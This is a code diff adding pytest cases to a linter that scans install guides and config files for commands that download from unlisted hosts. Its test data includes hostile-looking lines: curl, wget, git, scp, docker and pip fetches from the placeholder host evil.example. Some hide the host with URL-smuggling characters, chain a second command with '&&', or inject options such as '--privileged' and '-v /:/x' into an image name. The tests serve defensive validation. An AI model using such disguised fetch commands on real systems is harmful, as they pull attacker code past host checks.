@@ -2,7 +2,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.folders import EXAMPLE, FAQ, GUIDE, INSTALL, Edit, Tree, edited, problems_in
+from tests.folders import ACCELERATOR, EXAMPLE, FAQ, GUIDE, INSTALL, Edit, Tree, edited, problems_in
 
 HOSTS = "data/hosts.yaml"
 LISTED = """\
@@ -95,3 +95,86 @@ def test_without_a_list_only_the_protocol_is_looked_at(tree: Tree) -> None:
     edit = (GUIDE, "This is", "    curl http://a.example https://b.example\n\nThis is")
     (problem,) = problems_in(tree(edited(edit, files=EXAMPLE)))
     assert "http://a.example" in problem
+
+
+@pytest.mark.parametrize(
+    ("command", "host"),
+    [
+        ('curl https:"//evil.example/x"', "evil.example"),
+        ('curl "https://docker.io)@evil.example/x"', "evil.example"),
+        ("curl 'https://docker.io|@evil.example/x'", "evil.example"),
+        ("curl -fsSLO evil.example/x", "evil.example"),
+        ("curl -o x.tar.gz user@evil.example:8080/x", "evil.example"),
+        ("wget -q -O x.zip evil.example", "evil.example"),
+        ("git clone git@evil.example:a/b.git", "evil.example"),
+        ("git clone evil.example:a/b.git", "evil.example"),
+        ("scp evil.example:/x .", "evil.example"),
+        ("docker pull evil.example/x", "evil.example"),
+        ("docker pull Evil/x", "evil"),
+        ("sudo docker run --rm -it --device /dev/x evil.example:5000/x:1", "evil.example"),
+        ("a && curl evil.example", "evil.example"),
+        ("pip install git+https://evil.example/x", "evil.example"),
+    ],
+)
+@pytest.mark.parametrize("place", ["```\n{}\n```", "Run `{}` first."])
+def test_addresses_that_hide_are_found(command: str, host: str, place: str, tree: Tree) -> None:
+    problems = found(tree, (GUIDE, "This is", f"{place.format(command)}\n\nThis is"))
+    line = 12 if place.startswith("```") else 11
+    assert told(GUIDE, line, host) in problems
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -o file.tar.gz -H Accept:text.html https://download.pytorch.org/x",
+        "docker run -v /opt/a.b/c:/x -w a/b pytorch/pytorch:2.0 python x.py",
+        "python -m pip install torch",
+        "cat a.example/x",
+        "user@example.org",
+        "curl http://169.254.169.254/latest/meta-data/instance-type",
+    ],
+)
+def test_what_names_no_other_host_is_fine(command: str, tree: Tree) -> None:
+    assert found(tree, (GUIDE, "This is", f"```\n{command}\n```\n\nThis is")) == []
+
+
+@pytest.mark.parametrize("sign", [")", "|", "<", "'", "`", "]"])
+def test_a_step_gets_its_word_as_it_is(sign: str, tree: Tree) -> None:
+    word = f'"https://download.pytorch.org{sign}@evil.example/x"'
+    problems = found(tree, (INSTALL, STEP, f"      - run: [curl, {word}]\n{STEP}"))
+    assert any("evil.example" in p and "is not among the hosts" in p for p in problems)
+
+
+def test_a_placeholder_is_no_host(tree: Tree) -> None:
+    run = "      - run: [git, clone, 'https://{torch}.evil.example/x']\n"
+    problems = found(tree, (INSTALL, STEP, run + STEP))
+    assert "has a placeholder in its host; write the host itself" in problems[-1]
+
+
+def test_a_command_of_identify_is_looked_at(tree: Tree) -> None:
+    entry = "identify:\n  - {os: linux, shows: x, source: made-up, command: curl evil.example}\n"
+    assert found(tree, (ACCELERATOR, "support:", f"{entry}support:")) == [
+        told(ACCELERATOR, 16, "evil.example")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("args", "word"),
+    [
+        ("[evil.example/x]", "evil.example/x"),
+        ("[--rm, evil]", "evil"),
+        ("[-it, evil]", "evil"),
+        ("[--shm-size, 8G, evil]", "evil"),
+        ("[--shm-size=8G, evil]", "evil"),
+        ("[--, evil]", "--"),
+    ],
+)
+def test_an_argument_of_docker_does_not_become_the_image(args: str, word: str, tree: Tree) -> None:
+    (problem,) = found(tree, (INSTALL, "- docker: {image", f"- docker: {{args: {args}, image"))
+    assert f'"{word}" is no option, and docker would take it for the image' in problem
+
+
+@pytest.mark.parametrize("image", ["--privileged", "a b", "a;b", "-v /:/x evil"])
+def test_an_image_is_a_name(image: str, tree: Tree) -> None:
+    (problem,) = found(tree, (INSTALL, '"example/torch:{torch}-{variant_version}"', f'"{image}"'))
+    assert "is no name of an image" in problem
